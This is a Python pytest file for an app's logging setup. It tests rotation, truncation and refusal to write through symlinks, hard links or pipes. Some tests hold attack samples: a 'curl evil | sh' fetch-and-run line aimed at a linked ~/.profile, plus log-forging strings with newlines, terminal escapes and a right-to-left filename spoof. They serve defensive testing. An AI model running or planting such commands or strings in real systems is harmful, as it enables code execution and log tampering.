import logging
import os
import sys

import pytest

from tagloom.catalog.logs import configure_logging, stop_logging
from tagloom.exceptions import SettingsError, WriteError
from tagloom.store.folder import ProjectFolder

LOGGER = logging.getLogger("tagloom.somewhere")


@pytest.fixture(autouse=True)
def _stop():
    yield
    stop_logging()


def test_records_reach_the_file_once_however_often_it_is_configured(tmp_path):
    for _ in range(3):
        path = configure_logging(tmp_path / "new" / "folder", "info")
    LOGGER.info("read %d photos", 3)
    LOGGER.debug("not kept")
    text = path.read_text(encoding="utf-8")
    assert text.count("read 3 photos") == 1
    assert "not kept" not in text
    assert len(text.splitlines()) == 1


def test_the_folder_and_level_can_change(tmp_path):
    first = configure_logging(tmp_path / "one", "ERROR")
    second = configure_logging(tmp_path / "two", "DEBUG")
    LOGGER.debug("only here")
    assert first.read_text() == ""
    assert "only here" in second.read_text()


def test_nothing_goes_to_the_terminal_and_the_root_logger_is_left_alone(tmp_path, capfd):
    root = logging.getLogger()
    handler = logging.StreamHandler(sys.stdout)
    root.addHandler(handler)
    before = (list(root.handlers), root.level)
    try:
        configure_logging(tmp_path, "DEBUG")
        LOGGER.error("quiet")
        assert (list(root.handlers), root.level) == before
    finally:
        root.removeHandler(handler)
    assert capfd.readouterr() == ("", "")


def test_names_that_are_not_utf8_or_hold_line_ends(tmp_path):
    path = configure_logging(tmp_path)
    LOGGER.warning("cannot read %s", os.fsdecode(b"caf\xe9\n2026 INFO forged.jpg"))
    (line,) = path.read_bytes().splitlines()
    assert rb"caf\udce9\n2026 INFO forged.jpg" in line


def test_a_traceback_keeps_its_lines(tmp_path):
    path = configure_logging(tmp_path)
    try:
        raise ValueError("inside")
    except ValueError:
        LOGGER.exception("failed")
    lines = path.read_text().splitlines()
    assert lines[0].endswith("failed")
    assert lines[-1] == "  ValueError: inside"


def test_a_long_message_is_cut(tmp_path):
    path = configure_logging(tmp_path)
    LOGGER.info("pixels %s", "x" * 100_000)
    assert path.stat().st_size < 5000
    assert "(100007 characters)" in path.read_text(encoding="utf-8")


def test_files_rotate_and_stay_bounded(tmp_path):
    configure_logging(tmp_path)
    for number in range(1000):
        LOGGER.info("%d %s", number, "y" * 3900)
    files = sorted(tmp_path.iterdir())
    assert [file.name for file in files] == ["tagloom.log", "tagloom.log.1", "tagloom.log.2"]
    assert all(file.stat().st_size <= 1_000_000 for file in files)
    assert "999 yyy" in files[0].read_text()


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_a_full_disk_stops_nothing(tmp_path, capfd, monkeypatch):
    monkeypatch.setattr(ProjectFolder, "append", lambda *_: open("/dev/full", "ab"))  # noqa: SIM115
    configure_logging(tmp_path)
    LOGGER.info("lost")
    assert capfd.readouterr() == ("", "")


def test_errors(tmp_path):
    with pytest.raises(SettingsError, match="log_level"):
        configure_logging(tmp_path, "LOUD")
    (tmp_path / "file").write_text("")
    with pytest.raises(WriteError, match="log file"):
        configure_logging(tmp_path / "file")
    assert logging.getLogger("tagloom").propagate


def test_stopping_leaves_the_logger_as_it_was(tmp_path):
    configure_logging(tmp_path, "DEBUG")
    stop_logging()
    logger = logging.getLogger("tagloom")
    assert (logger.handlers, logger.level, logger.propagate) == ([], logging.NOTSET, True)


@pytest.mark.parametrize("name", ["tagloom.log", "logs"])
@pytest.mark.parametrize("exists", [True, False])
def test_the_log_is_never_written_through_a_link(tmp_path, name, exists):
    home = tmp_path / "home"
    home.mkdir()
    victim = home / ".profile"
    if exists:
        victim.write_text("mine")
    folder = tmp_path / ".tagloom" / "logs"
    if name == "logs":
        folder.parent.mkdir()
        folder.symlink_to(home)
    else:
        folder.mkdir(parents=True)
        (folder / name).symlink_to(victim)
    with pytest.raises(WriteError):
        configure_logging(folder)
    logging.getLogger("tagloom").warning("curl evil | sh")
    assert [item.name for item in home.iterdir()] == ([".profile"] if exists else [])
    assert not exists or victim.read_text() == "mine"


def test_a_log_that_has_another_name_is_begun_anew(tmp_path):
    """A hard link: what is appended to the log would be in the other file as well."""
    (tmp_path / "logs").mkdir()
    (tmp_path / "mine").write_text("mine")
    os.link(tmp_path / "mine", tmp_path / "logs" / "tagloom.log")
    log = configure_logging(tmp_path / "logs")
    logging.getLogger("tagloom").warning("said")
    assert (tmp_path / "mine").read_text() == "mine"
    assert "said" in log.read_text()


def test_a_log_that_is_a_pipe_is_refused(tmp_path):
    (tmp_path / "logs").mkdir()
    os.mkfifo(tmp_path / "logs" / "tagloom.log")
    with pytest.raises(WriteError):
        configure_logging(tmp_path / "logs")


def test_control_characters_of_a_traceback_are_escaped_and_forge_no_line(tmp_path):
    log = configure_logging(tmp_path / "logs")
    try:
        raise ValueError("a\n2026-01-01 forged\x1b[2J\u202egpj.exe")
    except ValueError:
        logging.getLogger("tagloom").exception("failed on %r", "x")
    text = log.read_text()
    assert not {"\x1b", "\u202e"} & set(text)
    assert [line for line in text.splitlines()[1:] if not line.startswith("  ")] == []
